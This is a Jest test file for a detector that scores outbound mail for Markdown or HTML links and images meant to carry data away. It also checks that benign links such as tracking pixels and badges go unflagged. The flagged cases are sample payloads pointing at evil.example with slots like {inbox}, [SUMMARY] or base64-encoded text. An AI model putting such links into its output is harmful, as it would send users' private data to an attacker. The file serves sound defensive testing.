import { describe, expect, it } from '@jest/globals';
import { outboundMail, type FakeMail } from '../../normalise/scanned-mail.fake.js';
import { markdownExfilCheck } from './markdown-exfil.check.js';

const confidenceOf = (parts: FakeMail): number => markdownExfilCheck.run(outboundMail(parts))[0]?.confidence ?? 0;
const FLAGS = 0.5;
const SENTENCE = 'The board meets on Monday about the sale of the house';
const base64 = Buffer.from(SENTENCE).toString('base64url');

describe('an address that carries data away', () => {
  it.each<[string, FakeMail]>([
    ['a Markdown picture to fill in', { text: '![logo](https://evil.example/p.png?d=[SUMMARY])' }],
    ['a reference to fill in', { text: 'See [it][1].\n\n[1]: https://evil.example/?q={inbox}' }],
    ['a word in capitals to fill in', { text: 'GET https://evil.example/drop?q=BASE64 and go on' }],
    ['an HTML picture to fill in', { html: '<img src="https://evil.example/?q=%7Bsecret%7D">' }],
    ['a Markdown picture with a value', { direction: 'inbound', text: '![a](https://evil.example/a.png?u=17)' }],
    ['sentences in a picture', { html: `<img src="https://evil.example/?d=${encodeURIComponent(SENTENCE)}">` }],
    ['encoded sentences in a picture', { html: `<img src="https://evil.example/${base64}.png?d=${base64}">` }],
    ['encoded sentences in a link', { html: `<a href="https://evil.example/?d=${base64}">here</a>` }],
  ])('is %s', (_, parts) => {
    expect(confidenceOf(parts)).toBeGreaterThanOrEqual(FLAGS);
  });

  it.each<[string, FakeMail]>([
    ['a tracking pixel', { html: '<img src="https://t.example/o/iLq7J1sKqyLLnxssFQhjkv5D9caqG.gif?u=17&c=news">' }],
    ['a name that was not merged', { html: '<a href="https://shop.example/?name={{first_name}}">Shop</a>' }],
    ['a link in Markdown', { text: '[This Week in Rust](https://this-week-in-rust.org/blog/?page=2)' }],
    ['a badge', { text: '![build](https://ci.example/badge.svg)' }],
    ['a search', { html: '<a href="https://search.example/?q=how+to+bake+bread+at+home+today">here</a>' }],
    ['an example in a manual', { text: 'Call https://api.example/users/:id with your id.' }],
    ['sentences in an inbound link', { direction: 'inbound', html: `<a href="https://x.example/?d=${base64}">x</a>` }],
  ])('is not %s', (_, parts) => {
    expect(confidenceOf(parts)).toBeLessThan(FLAGS);
  });
});
